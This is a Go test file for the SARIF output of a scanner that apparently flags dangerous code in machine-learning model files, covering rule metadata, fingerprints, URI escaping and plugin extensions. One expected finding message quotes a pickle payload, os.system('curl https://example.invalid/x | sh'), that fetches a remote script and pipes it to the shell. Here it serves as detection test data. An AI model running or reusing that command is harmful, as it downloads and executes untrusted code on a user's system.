package sarif_test

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/modelgate/modelgate/core/finding"
	"github.com/modelgate/modelgate/core/report"
	"github.com/modelgate/modelgate/core/report/reporttest"
	"github.com/modelgate/modelgate/core/report/sarif"
	"github.com/modelgate/modelgate/core/report/sarif/sariftest"
	"github.com/modelgate/modelgate/core/rules"
)

var update = flag.Bool("update", false, "rewrite golden files")

// sample builds the report shared by the writer tests from
// core/report/testdata/files.json.
func sample(t *testing.T) *report.Report { return reporttest.Sample(t, "v1.2.3", "/home/ci/my repo") }

func write(t *testing.T, r *report.Report, opts sarif.Options) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := sarif.New(opts)
	if w.Name() != "sarif" {
		t.Errorf("Name = %q", w.Name())
	}
	if err := w.Write(context.Background(), &buf, r); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// The parts of a SARIF log the tests look at.
type (
	logT struct {
		Schema  string `json:"$schema"`
		Version string `json:"version"`
		Runs    []runT `json:"runs"`
	}
	runT struct {
		Tool struct {
			Driver struct {
				Name            string  `json:"name"`
				Version         string  `json:"version"`
				SemanticVersion string  `json:"semanticVersion"`
				InformationURI  string  `json:"informationUri"`
				Rules           []ruleT `json:"rules"`
				Notifications   []ruleT `json:"notifications"`
			} `json:"driver"`
		} `json:"tool"`
		AutomationDetails *struct {
			ID string `json:"id"`
		} `json:"automationDetails"`
		OriginalURIBaseIDs map[string]struct {
			URI string `json:"uri"`
		} `json:"originalUriBaseIds"`
		Invocations []struct {
			ExecutionSuccessful bool    `json:"executionSuccessful"`
			ExitCode            int     `json:"exitCode"`
			Notifications       []noteT `json:"toolExecutionNotifications"`
		} `json:"invocations"`
		Results []resultT `json:"results"`
	}
	ruleT struct {
		ID         string         `json:"id"`
		Properties map[string]any `json:"properties"`
		Default    struct {
			Level string `json:"level"`
		} `json:"defaultConfiguration"`
		Help struct {
			Text     string `json:"text"`
			Markdown string `json:"markdown"`
		} `json:"help"`
	}
	locT struct {
		PhysicalLocation struct {
			ArtifactLocation struct {
				URI       string `json:"uri"`
				URIBaseID string `json:"uriBaseId"`
			} `json:"artifactLocation"`
		} `json:"physicalLocation"`
	}
	resultT struct {
		RuleID    string `json:"ruleId"`
		RuleIndex int    `json:"ruleIndex"`
		Level     string `json:"level"`
		Message   struct {
			Text string `json:"text"`
		} `json:"message"`
		Locations           []locT            `json:"locations"`
		PartialFingerprints map[string]string `json:"partialFingerprints"`
		Properties          map[string]any    `json:"properties"`
		Suppressions        []struct {
			Kind          string `json:"kind"`
			Status        string `json:"status"`
			Justification string `json:"justification"`
			GUID          string `json:"guid"`
		} `json:"suppressions"`
	}
	noteT struct {
		Level   string `json:"level"`
		Message struct {
			Text string `json:"text"`
		} `json:"message"`
		Descriptor struct {
			ID    string `json:"id"`
			Index *int   `json:"index"`
		} `json:"descriptor"`
		Locations []locT `json:"locations"`
	}
)

func decode(t *testing.T, b []byte) runT {
	t.Helper()
	var l logT
	if err := json.Unmarshal(b, &l); err != nil {
		t.Fatal(err)
	}
	if l.Version != "2.1.0" || l.Schema != sarif.SchemaURI {
		t.Errorf("version %q, $schema %q", l.Version, l.Schema)
	}
	if len(l.Runs) != 1 {
		t.Fatalf("%d runs, want 1", len(l.Runs))
	}
	return l.Runs[0]
}

func TestWriteSample(t *testing.T) {
	r := sample(t)
	before := report.Build(r.Files, report.Options{})
	out := write(t, r, sarif.Options{Category: "modelgate"})
	sariftest.Validate(t, out)
	golden(t, "sample.sarif", out)
	if !reflect.DeepEqual(before.Files, r.Files) {
		t.Error("Write modified the report")
	}
	run := decode(t, out)

	d := run.Tool.Driver
	if d.Name != "modelgate" || d.Version != "v1.2.3" || d.SemanticVersion != "1.2.3" || d.InformationURI != "https://github.com/modelgate/modelgate" {
		t.Errorf("driver = %s %s %s %s", d.Name, d.Version, d.SemanticVersion, d.InformationURI)
	}
	if run.AutomationDetails == nil || run.AutomationDetails.ID != "modelgate/" {
		t.Errorf("automationDetails = %+v", run.AutomationDetails)
	}
	if got := run.OriginalURIBaseIDs[sarif.SrcRoot].URI; got != "file:///home/ci/my%20repo/" {
		t.Errorf("%%SRCROOT%% = %q", got)
	}

	// Rules: every finding rule of the catalogue, no MG9xx; notifications: the MG9xx.
	var ruleIDs, noteIDs, wantRules, wantNotes []string
	for _, rl := range d.Rules {
		ruleIDs = append(ruleIDs, rl.ID)
	}
	for _, n := range d.Notifications {
		noteIDs = append(noteIDs, n.ID)
	}
	for _, rl := range rules.Default().All() {
		if rl.Unscanned {
			wantNotes = append(wantNotes, rl.ID)
		} else {
			wantRules = append(wantRules, rl.ID)
		}
	}
	if !reflect.DeepEqual(ruleIDs, wantRules) || !reflect.DeepEqual(noteIDs, wantNotes) {
		t.Errorf("rules %v notifications %v", ruleIDs, noteIDs)
	}
	wantSev := map[string]string{"MG101": "9.5", "MG102": "8.0", "MG103": "5.5", "MG108": "2.0", "MG201": "5.5"}
	wantLevel := map[string]string{"MG101": "error", "MG102": "error", "MG103": "warning", "MG108": "note", "MG201": "warning"}
	for _, rl := range d.Rules {
		if s, ok := wantSev[rl.ID]; ok && rl.Properties["security-severity"] != s {
			t.Errorf("%s security-severity = %v, want %s", rl.ID, rl.Properties["security-severity"], s)
		}
		if l, ok := wantLevel[rl.ID]; ok && rl.Default.Level != l {
			t.Errorf("%s default level = %s, want %s", rl.ID, rl.Default.Level, l)
		}
		tags, _ := rl.Properties["tags"].([]any)
		if len(tags) == 0 || tags[0] != "security" && !strings.Contains(fmt.Sprint(tags), "security") {
			t.Errorf("%s tags %v lack security", rl.ID, tags)
		}
		if rl.Properties["precision"] == nil {
			t.Errorf("%s has no precision", rl.ID)
		}
		for _, s := range []string{"What:", "Why:", "Fix:"} {
			if !strings.Contains(rl.Help.Text, s) || !strings.Contains(rl.Help.Markdown, "**"+s+"**") {
				t.Errorf("%s help lacks %s", rl.ID, s)
			}
		}
	}

	// Results, in report order.
	type want struct {
		rule, level, uri string
		suppressed       bool
	}
	wantResults := []want{
		{"MG101", "error", "models/evil%20model.pkl", false},
		{"MG102", "error", "models/evil%20model.pkl", false},
		{"MG103", "warning", "models/evil%20model.pkl", false},
		{"MG103", "warning", "models/evil%20model.pkl", true},
		{"MG108", "note", "models/evil%20model.pkl", false},
		{"MG101", "error", "weights/%D0%BC%D0%BE%D0%B4%D0%B5%D0%BB%D1%8C.pt", false},
		{"MG201", "warning", "weights/%D0%BC%D0%BE%D0%B4%D0%B5%D0%BB%D1%8C.pt", false},
	}
	if len(run.Results) != len(wantResults) {
		t.Fatalf("%d results, want %d", len(run.Results), len(wantResults))
	}
	fps := map[string]bool{}
	for i, res := range run.Results {
		w := wantResults[i]
		loc := res.Locations[0].PhysicalLocation.ArtifactLocation
		if res.RuleID != w.rule || res.Level != w.level || loc.URI != w.uri || loc.URIBaseID != sarif.SrcRoot {
			t.Errorf("result %d = %s %s %s (%s), want %+v", i, res.RuleID, res.Level, loc.URI, loc.URIBaseID, w)
		}
		if d.Rules[res.RuleIndex].ID != res.RuleID {
			t.Errorf("result %d ruleIndex %d names %s", i, res.RuleIndex, d.Rules[res.RuleIndex].ID)
		}
		if (len(res.Suppressions) > 0) != w.suppressed {
			t.Errorf("result %d suppressions %+v", i, res.Suppressions)
		}
		fp := res.PartialFingerprints["primaryLocationLineHash"]
		if !strings.HasSuffix(fp, ":1") || fps[fp] || res.PartialFingerprints[sarif.FingerprintKey]+":1" != fp {
			t.Errorf("result %d fingerprints %v (duplicate or malformed)", i, res.PartialFingerprints)
		}
		fps[fp] = true
		if res.Properties["sha256"] == nil || res.Properties["severity"] == nil {
			t.Errorf("result %d properties %v", i, res.Properties)
		}
	}

	first := run.Results[0]
	if !strings.HasPrefix(first.Message.Text, "Pickle invokes a dangerous callable when it is loaded: os.system. At byte offset 42.") ||
		!strings.Contains(first.Message.Text, "Call: os.system('curl https://example.invalid/x | sh').") ||
		!strings.Contains(first.Message.Text, "Evidence: GLOBAL") {
		t.Errorf("message = %q", first.Message.Text)
	}
	if first.Properties["global"] != "os.system" || first.Properties["offset"] != float64(42) {
		t.Errorf("properties = %v", first.Properties)
	}
	inner := run.Results[5]
	if !strings.Contains(inner.Message.Text, "In member archive/data.pkl of the file, at byte offset 77.") || inner.Properties["member"] != "archive/data.pkl" {
		t.Errorf("member not reported: %q %v", inner.Message.Text, inner.Properties)
	}
	if m := run.Results[2].Message.Text; !strings.Contains(m, `mylib.\x1b[31mThing`) {
		t.Errorf("control characters not escaped in message %q", m)
	}
	sup := run.Results[3].Suppressions[0]
	if sup.Kind != "external" || sup.Status != "accepted" || sup.Justification != "reviewed: our own sklearn pipeline" || sup.GUID == "" {
		t.Errorf("suppression = %+v", sup)
	}

	// Invocation and notifications.
	if len(run.Invocations) != 1 {
		t.Fatalf("%d invocations", len(run.Invocations))
	}
	inv := run.Invocations[0]
	if !inv.ExecutionSuccessful || inv.ExitCode != 1 {
		t.Errorf("invocation = %+v", inv)
	}
	type wantNote struct{ id, level, uri, text string }
	wantNotes2 := []wantNote{
		{"MG905", "warning", "broken.bin", "broken.bin was not scanned: read broken.bin: input/output error."},
		{"MG904", "error", "lfs/big.safetensors", "lfs/big.safetensors was not scanned: Git LFS pointer"},
		{"MG903", "error", "weights/%D0%BC%D0%BE%D0%B4%D0%B5%D0%BB%D1%8C.pt", "weights/модель.pt, member archive/secret.bin, was not scanned: member is encrypted (AES). Encrypted content could not be scanned (MG903)."},
	}
	if len(inv.Notifications) != len(wantNotes2) {
		t.Fatalf("%d notifications, want %d: %+v", len(inv.Notifications), len(wantNotes2), inv.Notifications)
	}
	for i, n := range inv.Notifications {
		w := wantNotes2[i]
		if n.Descriptor.ID != w.id || n.Level != w.level || len(n.Locations) != 1 ||
			n.Locations[0].PhysicalLocation.ArtifactLocation.URI != w.uri || !strings.HasPrefix(n.Message.Text, w.text) {
			t.Errorf("notification %d = %+v, want %+v", i, n, w)
		}
		if n.Descriptor.Index == nil || d.Notifications[*n.Descriptor.Index].ID != w.id {
			t.Errorf("notification %d descriptor index does not name %s", i, w.id)
		}
	}
}

func TestWriteVariants(t *testing.T) {
	exit2 := sample(t)
	exit2.ExitCode = 2
	relRoot := sample(t)
	relRoot.Root = "."
	relRoot.Tool = report.Tool{Name: "modelgate", Version: "dev"}

	odd := report.Build([]finding.FileResult{{
		Path: "./dir/../a:b #1?100%.pkl", Status: finding.StatusScanned,
		Findings: []finding.Finding{
			{RuleID: rules.DangerousCall, Severity: finding.SeverityCritical, Path: "./dir/../a:b #1?100%.pkl", Offset: -1, Message: "x\ny"},
			{RuleID: "XP001", Severity: finding.SeverityHigh, Path: "./dir/../a:b #1?100%.pkl", Offset: 3, Message: "plugin says so"},
		},
	}, {
		Path: "gone.pkl", Status: finding.StatusNotScanned, Error: "open gone.pkl: permission denied",
	}}, report.Options{})

	tests := []struct {
		name    string
		r       *report.Report
		success bool
		check   func(t *testing.T, run runT)
	}{
		{"exit 2", exit2, false, nil},
		{"relative root", relRoot, true, func(t *testing.T, run runT) {
			if run.OriginalURIBaseIDs[sarif.SrcRoot].URI != "" {
				t.Error("relative root given a URI")
			}
			if run.Tool.Driver.SemanticVersion != "" || run.Tool.Driver.Version != "dev" {
				t.Error("non-semver version written as semanticVersion")
			}
		}},
		{"empty", report.Build(nil, report.Options{}), true, func(t *testing.T, run runT) {
			if run.Results == nil || len(run.Results) != 0 {
				t.Errorf("results = %v, want []", run.Results)
			}
			if run.Tool.Driver.InformationURI != sarif.DefaultInformationURI {
				t.Errorf("informationUri = %q", run.Tool.Driver.InformationURI)
			}
		}},
		{"odd paths and unknown rule", odd, true, func(t *testing.T, run runT) {
			if got := run.Results[0].Locations[0].PhysicalLocation.ArtifactLocation.URI; got != "a%3Ab%20%231%3F100%25.pkl" {
				t.Errorf("uri = %q", got)
			}
			last := run.Tool.Driver.Rules[len(run.Tool.Driver.Rules)-1]
			if last.ID != "XP001" || run.Results[1].RuleIndex != len(run.Tool.Driver.Rules)-1 {
				t.Errorf("unknown rule not appended: %s", last.ID)
			}
			if !strings.HasPrefix(run.Results[1].Message.Text, "Finding reported under rule XP001. At byte offset 3. plugin says so.") {
				t.Errorf("message = %q", run.Results[1].Message.Text)
			}
			if strings.Contains(run.Results[0].Message.Text, "\n") {
				t.Error("newline in message")
			}
			notes := run.Invocations[0].Notifications
			if len(notes) != 1 || notes[0].Descriptor.ID != rules.NotScannedError || !strings.Contains(notes[0].Message.Text, "permission denied") {
				t.Errorf("error notification = %+v", notes)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := write(t, tt.r, sarif.Options{})
			sariftest.Validate(t, out)
			run := decode(t, out)
			if run.AutomationDetails != nil {
				t.Error("automationDetails without a category")
			}
			if inv := run.Invocations[0]; inv.ExecutionSuccessful != tt.success || inv.ExitCode != tt.r.ExitCode {
				t.Errorf("invocation = %+v", inv)
			}
			if tt.check != nil {
				tt.check(t, run)
			}
		})
	}
}

func TestFingerprintStable(t *testing.T) {
	fp := func(mod func(*finding.Finding)) string {
		f := finding.Finding{RuleID: rules.DangerousCall, Severity: finding.SeverityCritical, Path: "m.pkl",
			Member: "archive/data.pkl", Offset: 10, Global: "os.system", Message: "calls os.system"}
		mod(&f)
		r := report.Build([]finding.FileResult{{Path: f.Path, Status: finding.StatusScanned, Findings: []finding.Finding{f}}}, report.Options{})
		return decode(t, write(t, r, sarif.Options{})).Results[0].PartialFingerprints["primaryLocationLineHash"]
	}
	base := fp(func(*finding.Finding) {})
	tests := []struct {
		name string
		mod  func(*finding.Finding)
		same bool
	}{
		{"offset moved", func(f *finding.Finding) { f.Offset = 999 }, true},
		{"message reworded", func(f *finding.Finding) { f.Message = "other" }, true},
		{"severity changed", func(f *finding.Finding) { f.Severity = finding.SeverityLow }, true},
		{"other global", func(f *finding.Finding) { f.Global = "posix.system" }, false},
		{"other member", func(f *finding.Finding) { f.Member = "archive/other.pkl" }, false},
		{"other path", func(f *finding.Finding) { f.Path = "n.pkl" }, false},
		{"other rule", func(f *finding.Finding) { f.RuleID = rules.DangerousImport }, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := fp(tt.mod); (got == base) != tt.same {
				t.Errorf("fingerprint %s vs %s, want same=%v", got, base, tt.same)
			}
		})
	}
	// Without a global, call or evidence the offset is the key.
	noKey := func(off int64) string {
		return fp(func(f *finding.Finding) { f.Global = ""; f.Offset = off })
	}
	if noKey(1) == noKey(2) {
		t.Error("keyless findings at different offsets share a fingerprint")
	}
}

func TestTooManyResults(t *testing.T) {
	const n = sarif.MaxResults + 7
	fs := make([]finding.Finding, 0, n)
	for i := 0; i < n; i++ {
		sev := finding.SeverityLow
		if i%1000 == 0 {
			sev = finding.SeverityCritical
		}
		fs = append(fs, finding.Finding{RuleID: rules.StackedPickle, Severity: sev, Path: "big.pkl", Offset: int64(i)})
	}
	r := report.Build([]finding.FileResult{{Path: "big.pkl", Status: finding.StatusScanned, Findings: fs}}, report.Options{})
	out := write(t, r, sarif.Options{})
	sariftest.Validate(t, out)
	run := decode(t, out)
	if len(run.Results) != sarif.MaxResults {
		t.Fatalf("%d results", len(run.Results))
	}
	crit := 0
	for _, res := range run.Results {
		if res.Level == "error" {
			crit++
		}
	}
	if crit != n/1000+1 {
		t.Errorf("%d critical results kept, want all %d", crit, n/1000+1)
	}
	notes := run.Invocations[0].Notifications
	if len(notes) != 1 || !strings.HasPrefix(notes[0].Message.Text, "7 less severe findings were left out") {
		t.Errorf("notifications = %+v", notes)
	}
}

func TestURI(t *testing.T) {
	tests := []struct{ in, want string }{
		{"models/model.pkl", "models/model.pkl"},
		{"models/evil model.pkl", "models/evil%20model.pkl"},
		{"./a/./b/../c.pkl", "a/c.pkl"},
		{"a:b.pkl", "a%3Ab.pkl"},
		{"x#y?z%.pkl", "x%23y%3Fz%25.pkl"},
		{"ü.pt", "%C3%BC.pt"},
		{"keep-._~!$&'()*+,;=@.pkl", "keep-._~!$&'()*+,;=@.pkl"},
		{"/abs/my dir/m.pkl", "file:///abs/my%20dir/m.pkl"},
		{"C:/Users/x/m.pkl", "file:///C:/Users/x/m.pkl"},
		{`C:\Users\x\m.pkl`, "file:///C:/Users/x/m.pkl"},
		{"../outside.pkl", "../outside.pkl"},
	}
	for _, tt := range tests {
		if got := sarif.URI(tt.in); got != tt.want {
			t.Errorf("URI(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := sarif.New(sarif.Options{}).Write(ctx, &bytes.Buffer{}, sample(t)); err == nil {
		t.Error("Write ignored a cancelled context")
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (run go test -update to accept)", path)
	}
}

// TestPluginExtension: a detector plugin's rules appear in
// tool.extensions with its version, stay in tool.driver.rules for GitHub,
// and its results name it; the log is valid.
func TestPluginExtension(t *testing.T) {
	r := sample(t)
	cat, err := r.Catalogue().With(rules.Rule{ID: "TFL001", Name: "TFLiteCustomOp", Severity: finding.SeverityHigh,
		Title: "Custom operator", What: "w", Why: "y", Fix: "f", Plugin: "tflite"})
	if err != nil {
		t.Fatal(err)
	}
	r.Rules = cat
	r.Detectors = append(r.Detectors, report.Detector{Name: "tflite", Version: "0.1.0", Plugin: true})
	r.Files = append(r.Files, finding.FileResult{Path: "m.tflite", Status: finding.StatusScanned,
		Findings: []finding.Finding{{RuleID: "TFL001", Severity: finding.SeverityHigh, Path: "m.tflite", Offset: 12, Global: "MyOp", Message: "custom op MyOp"}}})
	out := write(t, r, sarif.Options{})
	sariftest.Validate(t, out)
	var log struct {
		Runs []struct {
			Tool struct {
				Driver struct {
					Rules []struct{ ID string } `json:"rules"`
				} `json:"driver"`
				Extensions []struct {
					Name, Version, SemanticVersion string
					Rules                          []struct {
						ID         string         `json:"id"`
						Properties map[string]any `json:"properties"`
					} `json:"rules"`
				} `json:"extensions"`
			} `json:"tool"`
			Results []struct {
				RuleID     string         `json:"ruleId"`
				Properties map[string]any `json:"properties"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(out, &log); err != nil {
		t.Fatal(err)
	}
	run := log.Runs[0]
	// Built-in formats are extensions too (name and version); the plugin's
	// entry is the one that carries rules.
	if len(run.Tool.Extensions) != len(r.Detectors) {
		t.Fatalf("extensions %+v for detectors %+v", run.Tool.Extensions, r.Detectors)
	}
	ext := run.Tool.Extensions[len(run.Tool.Extensions)-1]
	if ext.Name != "tflite" || ext.Version != "0.1.0" || ext.SemanticVersion != "0.1.0" || len(ext.Rules) != 1 ||
		ext.Rules[0].ID != "TFL001" || ext.Rules[0].Properties["security-severity"] != "8.0" {
		t.Errorf("extension %+v", ext)
	}
	inDriver := false
	for _, d := range run.Tool.Driver.Rules {
		inDriver = inDriver || d.ID == "TFL001"
	}
	if !inDriver {
		t.Error("TFL001 missing from tool.driver.rules")
	}
	found := false
	for _, res := range run.Results {
		if res.RuleID == "TFL001" {
			found = true
			if res.Properties["detector"] != "tflite" {
				t.Errorf("result properties %v", res.Properties)
			}
		}
	}
	if !found {
		t.Error("no TFL001 result")
	}
}
